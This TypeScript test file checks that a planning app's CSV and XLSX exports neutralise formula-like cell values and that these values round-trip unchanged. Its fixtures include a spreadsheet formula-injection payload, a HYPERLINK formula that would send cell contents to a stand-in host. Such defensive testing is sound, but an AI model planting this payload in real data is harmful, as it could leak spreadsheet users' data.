import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCsv } from '@pdz/core';
import { createTestApp, demo, type Client, type TestApp } from '../../testing/test-app';
import { newPlan } from '../../testing/scratch-plan';

// Text that a spreadsheet would take for a formula leaves as text, and comes back as it was.

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const title = '=HYPERLINK("http://x.example/?"&A1;"Apri")';

let t: TestApp;
let office: Client;
let base: string;
let services: string;

beforeAll(async () => {
  t = await createTestApp();
  office = await t.login(demo.planOffice);
  const districtId = (await office.get('/api/districts')).json().items[0].id;
  services = `/api/districts/${districtId}/services/file`;
  const made = await newPlan(office, districtId, 2070);
  base = `${made.base}/spreadsheet`;
  const objectiveId = made.plan.areas[0].objectives[0].id;
  await t.sql(sql`update objectives set title = ${title} where id = ${objectiveId}`);
  await t.sql(sql`update actions set title = ${'-1+2'} where id = ${made.actionIds[0]}`);
  const res = await office.post(`${made.base}/indicators`, {
    objectiveId,
    name: '@SUM(1;2)',
    baselineValue: -3.5,
    baselineYear: 2069,
    targets: [2070, 2071, 2072].map((year) => ({ year, value: -1.25 })),
    partialPercent: 50,
    achievedPercent: 90,
  });
  expect(res.statusCode, res.body).toBe(201);
  const [first] = (await t.sql(sql`select id from services order by name limit 1`)).rows;
  await t.sql(sql`update services set name = ${'+39 0382 cmd'} where id = ${first!.id as string}`);
});
afterAll(async () => t.close());

const headers = () => ({ cookie: office.cookie ?? '', 'x-csrf-token': office.csrf ?? '' });
const get = (url: string) => t.app.inject({ method: 'GET', url, headers: headers() });
const post = (url: string, type: string, payload: Buffer) =>
  t.app.inject({ method: 'POST', url, headers: { ...headers(), 'content-type': type }, payload });
const column = (rows: string[][], header: string) =>
  rows.slice(1).map((r) => r[rows[0]!.indexOf(header)]);

describe('cells that look like formulas', () => {
  it('are written to CSV as text behind an apostrophe, negative numbers as numbers', async () => {
    const objectives = readCsv((await get(`${base}?format=csv&sheet=objectives`)).body);
    expect(column(objectives, 'Titolo')).toEqual([`'${title}`]);
    const actions = readCsv((await get(`${base}?format=csv&sheet=actions`)).body);
    expect(column(actions, 'Titolo')).toContain("'-1+2");
    const indicators = readCsv((await get(`${base}?format=csv&sheet=indicators`)).body);
    expect(column(indicators, 'Nome')).toEqual(["'@SUM(1;2)"]);
    expect(column(indicators, 'Valore di partenza')).toEqual(['-3,5']);
    const directory = readCsv((await get(`${services}?format=csv`)).body);
    expect(column(directory, 'Nome')).toContain("'+39 0382 cmd");
  });

  it('come back from our CSV exactly: importing the export changes nothing', async () => {
    for (const sheet of ['objectives', 'actions', 'indicators']) {
      const csv = await get(`${base}?format=csv&sheet=${sheet}`);
      const back = await post(`${base}?format=csv&sheet=${sheet}`, 'text/csv', csv.rawPayload);
      expect(back.statusCode, back.body).toBe(200);
      expect(back.json().changes, sheet).toBe(0);
    }
    const csv = await get(`${services}?format=csv`);
    const back = await post(`${services}?format=csv`, 'text/csv', csv.rawPayload);
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toMatchObject({ created: 0, updated: 0 });
  });

  it('are string cells in the workbook, never formulas, and come back unchanged', async () => {
    const file = await get(`${base}?format=xlsx`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
    const cell = wb.getWorksheet('Obiettivi')!.getCell('C2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(title);
    expect(cell.formula).toBeUndefined();
    const back = await post(`${base}?format=xlsx`, XLSX, file.rawPayload);
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json().changes).toBe(0);

    const directory = await get(`${services}?format=xlsx`);
    const again = await post(`${services}?format=xlsx`, XLSX, directory.rawPayload);
    expect(again.json()).toMatchObject({ created: 0, updated: 0 });
  });
});
